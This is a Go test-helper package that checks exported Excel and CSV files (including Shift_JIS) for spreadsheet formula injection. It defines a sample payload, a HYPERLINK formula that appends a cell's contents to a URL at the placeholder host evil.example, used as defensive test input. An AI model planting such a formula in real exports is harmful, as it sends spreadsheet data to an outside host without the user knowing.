package sheetstest

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/japanese"
)

// Formula is a text a person could type into a register that a
// spreadsheet program would run if an export wrote it as it is.
const Formula = `=HYPERLINK("http://evil.example/?"&A1,"詳細")`

// NoFormulas checks a workbook as a person opening it would meet it: no
// cell of any sheet is a formula, and each of texts is in some cell as
// the text it is.
func NoFormulas(t testing.TB, xlsx []byte, texts ...string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(xlsx))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s is the formula %q", sheet, cell, formula)
				}
				found[v] = true
			}
		}
	}
	for _, s := range texts {
		if !found[s] {
			t.Errorf("no cell holds the text %q", s)
		}
	}
}

// NoFormulasCSV checks a CSV file (UTF-8 or Shift_JIS) as a spreadsheet
// program would open it: no cell that is not a number begins like a
// formula, and each of texts is in some cell with one quote before it.
func NoFormulasCSV(t testing.TB, data []byte, texts ...string) {
	t.Helper()
	if b, ok := bytes.CutPrefix(data, []byte("\xef\xbb\xbf")); ok {
		data = b
	} else if !utf8.Valid(data) {
		var err error
		if data, err = japanese.ShiftJIS.NewDecoder().Bytes(data); err != nil {
			t.Fatal(err)
		}
	}
	cr := csv.NewReader(bytes.NewReader(data))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for r, rec := range recs {
		for c, v := range rec {
			found[v] = true
			if _, err := strconv.ParseFloat(v, 64); err == nil || v == "" {
				continue
			}
			if strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("row %d column %d begins like a formula: %q", r+1, c+1, v)
			}
		}
	}
	for _, s := range texts {
		if !found["'"+s] {
			t.Errorf("no cell holds '%s", s)
		}
	}
}
